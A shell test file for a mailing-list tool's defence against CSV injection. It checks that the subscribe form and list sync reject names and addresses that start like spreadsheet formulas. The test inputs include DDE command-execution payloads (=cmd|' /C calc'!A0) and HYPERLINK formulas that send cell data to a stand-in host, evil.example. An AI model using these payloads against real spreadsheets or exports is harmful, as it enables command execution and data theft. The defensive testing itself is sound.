#!/usr/bin/env bash
# CSV injection: what subscribers type on the web ends up, through lists
# sync, in the CSVs editors open in a spreadsheet, where a cell starting
# with = + - @ (or TAB, CR) is a formula, and so, in LibreOffice and in
# Excel in East Asian locales, is one starting with the full-width ＝ ＋ － ＠.  serve's subscribe form, filled
# as the page declares it (its form's fields, method and action), refuses
# such a name or address with a message in the page and records nothing;
# legitimate names (Chinese, hyphens inside) pass unchanged.  A journal
# holding such names and addresses from before (rows written as an older
# serve recorded them) is synced: no appended cell starts like a formula,
# such a name is left out, such an address is not appended (it stays a
# web subscriber), each named in a warning; legitimate names are written
# as typed; the editors' own rows stay byte for byte; a second sync
# changes nothing.  Maildir transport: every mail is a file.
. tests/lib/tap.sh
. tests/lib/servers.sh
. tests/lib/project.sh
. tests/lib/web.sh
command -v sqlite3 >/dev/null || skip_all "sqlite3 not installed (make deps)"
tap_tmp
plan 13
web_direct_project 'mails_per_address_per_day: 3' 'mails_per_ip_per_hour: 1000'
M() { "$MAILER" --config "$P/config.yaml" "$@"; }
rm -r "$P"/lists/*
printf 'name: 测试 east\nshort_name: east\ngreeting: 你好\ncontact: x\nlist_id: east.news.example.org\n' \
	>"$P/lists/east.yaml"
# the editors' own rows, one of them with a name a spreadsheet would run:
# theirs to keep, byte for byte
printf '%s\r\n' 'email,name,city' 'amy@example.org,Amy,成都' \
	'own@example.org,@own handle,雅安' >"$P/lists/east.csv"
cp "$P/lists/east.csv" "$TMP/east.orig"

web_direct_serve

fill() { web_fill "$BASE/lists/east/subscribe" "$@"; }

# names a spreadsheet would run, each with a valid address
NAME_MSG='称呼不能以 = + - @(或全角 ＝ ＋ － ＠)开头 · The name may not start with =, +, - or @ (nor their full-width forms)'
bad=0 n=0
while IFS= read -r name; do
	n=$((n + 1))
	fill "$name" "hostile$n@example.org" >"$TMP/f.out"
	{ read -r code; read -r msg; } <"$TMP/f.out"
	case $code/$msg in
	"400/$NAME_MSG") ;;
	*) echo "# name '$name': $code $msg"; bad=1 ;;
	esac
done <<'NAMES'
=HYPERLINK("http://evil.example/?"&A1,"Click me")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
 =1+1
　=1+1
 @SUM(1)
NAMES
[ $bad = 0 ] && [ $n = 8 ]
ok $? "8 names starting like a formula (after an ideographic or a no-break space too): the form again, 400, saying why in the page"
fill "$(printf '\tTab')" tab@example.org >"$TMP/f.out"; { read -r code; read -r msg; } <"$TMP/f.out"
[ "$code" = 400 ] && [ "$msg" != - ]
ok $? "a name starting with a TAB: 400 with a message ($msg)"
bad=0
for name in '＝HYPERLINK("http://evil.example/","x")' '＋1+cmd|'"' /C calc'"'!A0' \
	'－2+3' '＠SUM(1)' ' ＝1+1'; do
	n=$((n + 1))
	fill "$name" "hostile$n@example.org" >"$TMP/f.out"; { read -r code; read -r msg; } <"$TMP/f.out"
	[ "$code/$msg" = "400/$NAME_MSG" ] || { echo "# name '$name': $code $msg"; bad=1; }
done
[ $bad = 0 ]; ok $? "5 names starting with a full-width ＝ ＋ － ＠: 400, saying why"
bad=0
for email in "=cmd|'/Ccalc'!A0@evil.example" '-2+3@example.org' '+1@example.org'; do
	fill 'Reader' "$email" >"$TMP/f.out"; { read -r code; read -r msg; } <"$TMP/f.out"
	[ "$code/$msg" = "400/邮箱地址不能以 = + - 开头 · The address may not start with =, + or -" ] ||
		{ echo "# address '$email': $code $msg"; bad=1; }
done
[ $bad = 0 ]; ok $? "3 addresses (valid ones) starting like a formula: 400, saying why"
drained
[ "$(q "select count(*) from subscriptions")" = 0 ] &&
	[ "$(q "select count(*) from web_mails")" = 0 ] && [ -z "$(ls "$P/outbox/new" 2>/dev/null)" ]
ok $? "none of them is recorded, none mailed"

# legitimate names, with a hyphen, a plus or an at sign inside
bad=0
for pair in '李明|li.ming@example.org' 'Jean-Pierre Lefèvre|jp@example.org' \
	'欧阳-娜娜|ouyang@example.org' 'Ann+Bob @ home|annbob@example.org'; do
	fill "${pair%%|*}" "${pair#*|}" >"$TMP/f.out"; { read -r code; read -r msg; } <"$TMP/f.out"
	[ "$code/$msg" = 200/- ] || { echo "# '$pair': $code $msg"; bad=1; }
done
[ $bad = 0 ]; ok $? "4 legitimate names (Chinese, hyphens, + and @ inside): 200"
drained
[ "$(q "select group_concat(name, '|') from (select name from subscriptions order by id)")" = \
	'李明|Jean-Pierre Lefèvre|欧阳-娜娜|Ann+Bob @ home' ]
ok $? "recorded exactly as typed"
# confirm them through the mailed links
link_for() {
	/usr/bin/python3 - "$1" "$P"/outbox/new/* <<'PY'
import email, email.policy, re, sys
for f in sys.argv[2:]:
    m = email.message_from_binary_file(open(f, 'rb'), policy=email.policy.default)
    if m['Delivered-To'] != sys.argv[1]: continue
    u = re.search(r'http://\S+/lists/east/confirm\?t=\S+', m.get_content())
    if u: print(u.group(0)); break
PY
}
bad=0
for a in li.ming@example.org jp@example.org ouyang@example.org annbob@example.org; do
	link=$(link_for $a)
	[ -n "$link" ] && [ "$(curl -s -o /dev/null -w '%{http_code}' --data confirm=1 "$link")" = 200 ] ||
		{ echo "# $a not confirmed"; bad=1; }
done
[ $bad = 0 ]; ok $? "the 4 confirm from the mail"

# a journal holding, from before the form refused them, confirmed web
# subscribers whose name or address starts like a formula
now=$(date +%s)
add_old() { q "insert into subscriptions(list, email, name, submitted_at, confirmed_at, ip, form) values ('east', '$1', $2, $now, $now, '127.0.0.1', 'old form')"; }
add_old 'old1@example.org' "'=HYPERLINK(\"http://evil.example/\",\"x\")'"
add_old 'old2@example.org' "'-2+3+cmd|'' /C calc''!A0'"
add_old 'old3@example.org' "'@SUM(1)'"
add_old 'old4@example.org' "char(9) || 'tab'"
add_old 'old5@example.org' "char(13) || 'cr'"
add_old 'old6@example.org' "'  +1'"
add_old "=cmd|''/Ccalc''!A0@evil.example" "'Evil'"
add_old '-old8@example.org' "'Old Eight'"
add_old 'old9@example.org' "'＝HYPERLINK(\"http://evil.example/\",\"x\")'"
add_old 'old10@example.org' "' ＠SUM(1)'"
M lists sync >"$TMP/sync.out" 2>"$TMP/sync.err"; rc=$?
sed 's/^/# /' "$TMP/sync.out" "$TMP/sync.err"
/usr/bin/python3 - "$P/lists/east.csv" "$TMP/east.orig" <<'PY'
import csv, io, sys
new, orig = open(sys.argv[1], newline='').read(), open(sys.argv[2], newline='').read()
assert new.startswith(orig), 'the editors\' rows changed'
rows = list(csv.reader(io.StringIO(new[len(orig):], newline='')))
bad = [c for r in rows for c in r
       if c.lstrip(' ')[:1] in ('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠')]
got = {r[0]: r[1] for r in rows}
want = {'li.ming@example.org': '李明', 'jp@example.org': 'Jean-Pierre Lefèvre',
        'ouyang@example.org': '欧阳-娜娜', 'annbob@example.org': 'Ann+Bob @ home',
        'old1@example.org': '', 'old2@example.org': '', 'old3@example.org': '',
        'old4@example.org': '', 'old5@example.org': '', 'old6@example.org': '',
        'old9@example.org': '', 'old10@example.org': ''}
if bad or got != want:
    print('# formula cells:', bad); print('# rows:', got); sys.exit(1)
PY
ok $(( rc | $? )) "lists sync (exit $rc): no appended cell starts like a formula; such names left out, legitimate names as typed, the editors' rows untouched"
[ "$(grep -c 'is appended without the name the journal has' "$TMP/sync.err")" = 8 ] &&
	grep -q "web subscriber =cmd|'/Ccalc'!A0@evil.example is not appended" "$TMP/sync.err" &&
	grep -q 'web subscriber -old8@example.org is not appended' "$TMP/sync.err" &&
	grep -q 'lists sync: 0 rows moved, 12 web subscribers appended' "$TMP/sync.out"
ok $? "each is named in a warning: 8 names left out (2 full-width), 2 addresses not appended"
M lists --json east >"$TMP/lists.json"
/usr/bin/python3 -c '
import json, sys
r = json.load(open(sys.argv[1]))[0]
sys.exit(0 if (r["rows"], r["web"], r["reach"]) == (14, 2, 16) else "# %s" % r)' "$TMP/lists.json"
ok $? "the 2 addresses stay web subscribers: 14 rows, 2 web, reach 16"
cp "$P/lists/east.csv" "$TMP/east.synced"
M lists sync >"$TMP/sync2.out" 2>"$TMP/sync2.err"
cmp -s "$TMP/east.synced" "$P/lists/east.csv" && [ ! -e "$P/lists/east.removed.csv" ] &&
	grep -q '0 web subscribers appended' "$TMP/sync2.out"
ok $? "a second sync changes nothing"
kill -TERM $SERVE; wait $SERVE; ok $? "serve stops cleanly (exit 0)"
exit 0
